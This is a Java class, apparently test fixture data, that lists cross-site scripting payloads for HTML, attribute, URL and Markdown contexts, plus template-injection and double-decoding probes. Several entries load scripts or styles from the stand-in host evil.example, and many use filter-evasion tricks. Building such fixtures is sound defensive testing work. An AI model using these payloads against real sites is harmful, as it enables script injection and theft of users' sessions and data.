package org.pacewell.stories;

import java.util.List;
import java.util.stream.Stream;

/** Texts that run, if somebody lets them. The first ones break out of most places by themselves. */
final class Scripts {
    /** As HTML, in an attribute, as an address, or as Markdown. */
    static final List<String> LIVE = List.of(
            "'\"></textarea></title></style><script class=planted>ran(1)</script>",
            "\" class=planted autofocus onfocus=ran(1) x=\"",
            "javascript:ran(1)//",
            "[x](javascript:ran(1))",
            "<script class=planted>ran(1)</script>",
            "</script><script class=planted>ran(1)</script>",
            "<ScRiPt class=planted >ran(1)</sCrIpT >",
            "<scr<script>ipt class=planted>ran(1)</script>",
            "<!--><script class=planted>ran(1)</script>-->",
            "<script class=planted src=//evil.example/x.js></script>",
            "<script class=planted>alert(1)</script>",
            "\"'><img class=planted src=x onerror=ran(1)>",
            "<svg class=planted onload=ran(1)>",
            "<svg class=planted><animate onbegin=ran(1) attributeName=x dur=1s>",
            "<svg class=planted><script>ran(1)</script></svg>",
            "<math class=planted><mtext><img src=x onerror=ran(1)></math>",
            "<iframe class=planted srcdoc=\"<script>parent.ran(1)</script>\"></iframe>",
            "<iframe class=planted src=javascript:parent.ran(1)></iframe>",
            "<details class=planted open ontoggle=ran(1)>x</details>",
            "<input class=planted autofocus onfocus=ran(1)>",
            "<body class=planted onload=ran(1)>",
            "<video class=planted><source onerror=ran(1) src=x></video>",
            "<a class=planted href=javascript:ran(1)>x</a>",
            "<object class=planted data=javascript:ran(1)></object>",
            "<form class=planted action=javascript:ran(1)><button>x</button></form>",
            "<meta class=planted http-equiv=refresh content='9;url=javascript:ran(1)'>",
            "<base class=planted href=//evil.example/>",
            "<link class=planted rel=stylesheet href=//evil.example/x.css>",
            "<style class=planted>@import '//evil.example/x.css';</style>",
            "<p class=planted style='background:url(//evil.example/x)'>x</p>",
            "<div class=planted hx-get=/x hx-trigger=load hx-on::load='ran(1)'>x</div>",
            "<div class=planted><template shadowrootmode=open><script>ran(1)</script></template>",
            "<noscript><p title='</noscript><img class=planted src=x onerror=ran(1)>'>",
            "' class=planted autofocus onfocus=ran(1) x='",
            "x class=planted onmouseover=ran(1)",
            "java&#10;script:ran(1)//",
            "data:text/html,<script>ran(1)</script>",
            "[x](&#106;avascript:ran(1))",
            "[x](<javascript:ran(1)>)",
            "<javascript:ran(1)>",
            "![x](//evil.example/x.png)",
            "**<img class=planted src=x onerror=ran(1)>**");

    /** What only an engine of templates, or one that decodes twice, would make something of. */
    static final List<String> DORMANT = List.of(
            "{1337*7331} ${1337*7331} #{1337*7331} {{1337*7331}}",
            "{1337.plus(9800210)} <%= 1337*7331 %>",
            "{str:eval('{1337.plus(9800210)}')} {=1337*7331}",
            "{#if true}9801{/if}{#if true}547{/if}",
            "&lt;script class=planted&gt;ran(1)&lt;/script&gt;",
            "&#60;img class=planted src=x onerror=ran(1)&#62;",
            "%3Cscript class=planted%3Eran(1)%3C/script%3E",
            "\\u003cscript class=planted\\u003eran(1)\\u003c/script\\u003e");

    private Scripts() {}

    static List<String> all() {
        return Stream.concat(LIVE.stream(), DORMANT.stream()).toList();
    }
}
